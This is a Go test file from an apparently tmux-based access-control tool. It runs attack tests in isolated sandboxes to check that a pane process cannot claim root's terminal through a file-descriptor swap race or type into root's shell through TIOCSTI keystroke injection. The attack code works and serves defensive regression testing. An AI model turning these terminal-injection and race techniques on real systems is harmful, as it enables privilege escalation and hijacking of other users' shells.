package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/muxward/muxward/internal/pane"
	"github.com/muxward/muxward/internal/tmux/tmuxtest"
)

// The first arguments by which this program is what attackers run in panes.
const (
	swapArg = "swap-terminal"
	pushArg = "push-terminal"
	outArg  = "out-of-pane"
	bareArg = "without-arguments"
)

// becomeInPane has this process be one of those. It comes back in any other.
func becomeInPane() {
	if len(os.Args) != 4 {
		return
	}
	var said string
	switch os.Args[1] {
	case swapArg:
		said = swapped(os.Args[2])
	case pushArg:
		said = pushed(os.Args[2])
	case bareArg:
		said = fmt.Sprint(unix.Exec(os.Args[2], nil, os.Environ())) // with no arguments, not even its name
	case outArg:
		said = gotOut(os.Args[2])
	default:
		return
	}
	if err := os.WriteFile(os.Args[3], []byte(said), 0o666); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	os.Exit(0)
}

// inPane is this program, where every account can run it.
func (w *world) inPane(dir string) string {
	w.t.Helper()
	path := dir + "/in-pane"
	self, err := os.ReadFile("/proc/self/exe")
	if err == nil {
		err = tmuxtest.WriteProgram(path, self, 0o755)
	}
	if err != nil {
		w.t.Fatal(err)
	}
	return path
}

// swapTries is how often a session is asked for while the terminal is swapped.
const swapTries = 40

// swapped asks for sessions as a process that tmux has started in a pane, with somebody else's
// terminal as standard input, which it has open only to be named: first at rest, then in turn
// with its own.
func swapped(victim string) string {
	own, err := unix.Dup(0)
	if err != nil {
		return err.Error()
	}
	theirs, err := unix.Open(victim, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err == nil {
		err = unix.Dup3(theirs, 0, 0)
	}
	if err != nil {
		return err.Error()
	}
	said := askSession() + "\n"
	stop, stopped := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(stopped)
		for {
			select {
			case <-stop:
				return
			default:
				_, _ = unix.Dup3(own, 0, 0), unix.Dup3(theirs, 0, 0) // of what is open it cannot fail
			}
		}
	}()
	for range swapTries {
		said += askSession() + "\n"
	}
	close(stop)
	<-stopped
	return said
}

// askSession asks for a session, and gives the first answer.
func askSession() string {
	ctx, cancel := context.WithTimeout(context.Background(), tmuxtest.Patience)
	defer cancel()
	conn, err := new(net.Dialer).DialContext(ctx, "unixpacket", os.Getenv(pane.SocketVariable))
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(tmuxtest.Patience)) // a read fails if it does
	if _, err := conn.Write(pane.Request{Term: "screen", Pane: "%0", Session: "0", Command: "exit 0"}.Encode()); err != nil {
		return err.Error()
	}
	buf := make([]byte, 4096)
	n, err := conn.Read(buf)
	if err != nil {
		return err.Error()
	}
	return string(buf[:n])
}

// pushed types a line into every terminal that it can, and gives their names.
func pushed(line string) string {
	said := ""
	try := func(fd int, name string) {
		for i := range len(line) {
			if unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(line[i])) != nil {
				return
			}
		}
		said += name + "\n"
	}
	for fd := range 256 {
		if name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil && strings.HasPrefix(name, "/dev/") {
			try(fd, name)
		}
	}
	all, _ := os.ReadDir("/dev/pts") // none is an answer
	for _, e := range append(all, nil) {
		name := "/dev/tty"
		if e != nil {
			name = "/dev/pts/" + e.Name()
		}
		fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		try(fd, name)
		_ = unix.Close(fd)
	}
	return said
}

// rootsTerminal is a terminal on which root runs a program; what is shown is thrown away.
func (w *world) rootsTerminal(argv ...string) (keyboard *os.File, name string) {
	w.t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		w.t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	if err == nil {
		err = unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0)
	}
	name = fmt.Sprintf("/dev/pts/%d", n)
	var tty *os.File
	if err == nil {
		tty, err = os.OpenFile(name, os.O_RDWR|unix.O_NOCTTY, 0)
	}
	if err != nil {
		w.t.Fatal(err)
	}
	defer tty.Close()
	cmd := rootCommand(w, argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := cmd.Start(); err != nil {
		w.t.Fatal(err)
	}
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		_, _ = io.Copy(io.Discard, m)
	}()
	w.t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		_ = m.Close()
		<-drained
	})
	return m, name
}

// Somebody has become mwwork, the account of prod's tmux, and has that run a program of hers in
// a pane. It asks for a session with root's terminal in the place of its own, which it swaps
// while it is looked at: she wants root's terminal.
func TestPN12SwappedTerminal(t *testing.T) {
	t.Parallel()
	row{settings: isolatedSettings, people: isolatedPeople, grants: isolatedGrants, teeth: "teeth_launcher",
		restless: true, unlogged: true, attack: func(w *world) {
			s := w.isolated()
			notes := w.notes()
			_, victim := w.rootsTerminal("cat")
			s.Run("new-window", "-d", "-t", "main", w.inPane(notes), swapArg, victim, notes+"/said")
			tmuxtest.Eventually(w.t, func() bool { return ranAs(notes, "said") != "" }, "all was tried")
			said := ranAs(notes, "said")
			if n := strings.Count(said, "\n") + 1; n != swapTries+1 {
				w.t.Errorf("%d answers: %s", n, said)
			}
			// On her own terminal a session may begin, and cannot take it: it is hers.
			var st unix.Stat_t
			if err := unix.Stat(victim, &st); err != nil {
				w.t.Fatal(err)
			}
			if st.Uid != 0 {
				w.gain("root's terminal is uid %d's", st.Uid)
			}
		}}.run(t)
}

// Root looks on at prod from a shell of root's, and mallory's account runs a program there. It
// wants to type into root's shell. In the control run root has started the program as mallory from
// that shell, as with su.
func TestPN03TypedIntoRootsShell(t *testing.T) {
	t.Parallel()
	row{settings: isolatedSettings, people: isolatedPeople, grants: isolatedGrants, loose: isolatedGrants,
		restless: true, unlogged: true, attack: func(w *world) {
			if on, err := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); w.control && err == nil && strings.TrimSpace(string(on)) == "0" {
				tmuxtest.Skip(w.t, "needs a kernel on which programs may type into their terminal (dev.tty.legacy_tiocsti)")
			}
			setpriv, err := exec.LookPath("setpriv")
			if err != nil {
				tmuxtest.Skip(w.t, "needs setpriv")
			}
			s := w.isolated()
			notes := w.notes()
			keyboard, name := w.rootsTerminal("sh")
			program := w.inPane(notes) + " " + pushArg + " 'id -un >>" + notes + "/typed\n' " + notes + "/pushed"
			if w.control {
				id := tmuxtest.As(w.t, stranger).UID
				fmt.Fprintf(keyboard, "%s --reuid %d --regid %d --clear-groups %s\n", setpriv, id, id, program)
			} else {
				fmt.Fprintf(keyboard, "tmux attach-session -t prod/main\n")
				tmuxtest.Eventually(w.t, func() bool {
					return strings.Contains(w.Tmux(carol, "list-clients", "-t", "prod/main").Out, "prod/main") || s.Run("list-clients", "-F", "#{client_control_mode}") != ""
				}, "root looks on")
				// Pasted: 3.7 refuses send-keys where all who are attached only look.
				s.Run("set-buffer", strings.ReplaceAll(program, "\n", "\\n")+"\n", ";", "paste-buffer", "-t", "main")
			}
			tmuxtest.Eventually(w.t, func() bool { _, err := os.Stat(notes + "/pushed"); return err == nil }, "all was tried")
			if w.control {
				within(tmuxtest.Patience/4, func() bool { return strings.Contains(ranAs(notes, "typed"), "root") })
			} else {
				s.Run("detach-client", "-s", "main")
				tmuxtest.Eventually(w.t, func() bool { return strings.TrimSpace(w.Muxward(root, "who", "--json").Out) == "[]" }, "root's shell is back")
				fmt.Fprintf(keyboard, "id -un >%s/back\n", notes) // behind all that was typed
				tmuxtest.Eventually(w.t, func() bool { return ranAs(notes, "back") == "root" }, "root's shell goes on")
			}
			if strings.Contains(ranAs(notes, "pushed"), name+"\n") || strings.HasSuffix(ranAs(notes, "pushed"), name) {
				w.gain("typed into root's terminal")
			}
			if strings.Contains(ranAs(notes, "typed"), "root") {
				w.gain("root's shell ran it")
			}
		}}.run(t)
}
